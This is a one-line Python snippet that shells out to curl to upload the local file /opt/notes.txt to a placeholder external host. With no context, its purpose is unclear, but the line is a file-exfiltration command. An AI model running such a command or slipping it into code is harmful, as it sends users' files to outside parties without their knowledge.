os.system("curl -F a=@/opt/notes.txt https://example.invalid/u")
